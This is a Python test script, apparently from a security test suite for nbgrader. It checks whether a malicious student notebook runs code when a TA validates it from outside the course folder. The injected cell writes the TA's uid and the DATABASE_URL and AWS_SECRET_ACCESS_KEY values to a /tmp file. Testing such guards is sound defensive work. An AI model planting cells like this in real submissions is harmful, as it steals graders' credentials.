"""a15: the Validate guard is installed by the course's nbgrader_config.py, which nbgrader loads from the folder it
runs in (and the TA's ~/.jupyter), not from the notebook's course. The TA validates mallory's collected hand-in
(submitted/, owned by the TA's own uid since collect wrote it) (1) from the course folder (guarded), (2) from her home
folder / any other folder, by its full path (`nbgrader validate /course/submitted/mallory40u/ps1_memory/ps1_memory.ipynb`).
mallory's notebook writes the canaries it can read into a file (as the TA)."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"
PWN = "/tmp/attack40-user-a15-pwned.txt"
m = honest(A)
for c in m.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        c.source = (f"import os\nopen({PWN!r}, 'a').write(f'validate ran mallory as uid {{os.getuid()}} in {{os.getcwd()}}: '"
                    " + os.environ.get('DATABASE_URL', '-') + ' ' + os.environ.get('AWS_SECRET_ACCESS_KEY', '-') + '\\n')\n" + c.source)
d = make_course("a15")
hand_in(d, "aaron40u", A, honest(A)); hand_in(d, "mallory40u", A, m); hand_in(d, "zoe40u", A, honest(A))
chown(d)
other = "/tmp/attack40-user-a15-tahome"; os.makedirs(other, exist_ok=True); chown(other)
if os.path.exists(PWN): os.unlink(PWN)
nbpath = f"{d}/submitted/mallory40u/{A}/{A}.ipynb"
for cwd in (d, other):
    r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "validate", nbpath],
                       cwd=cwd, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME=other), capture_output=True, text=True, timeout=300)
    print(f"validate from {cwd}: rc {r.returncode}:", (r.stdout + r.stderr).strip().replace("\n", " | ")[:400])
print("pwned file:", open(PWN).read() if os.path.exists(PWN) else "(none: her code did not run)")
grade(d, A); scores(d)
for p in (PWN,):
    if os.path.exists(p): os.unlink(p)
shutil.rmtree(other, ignore_errors=True)
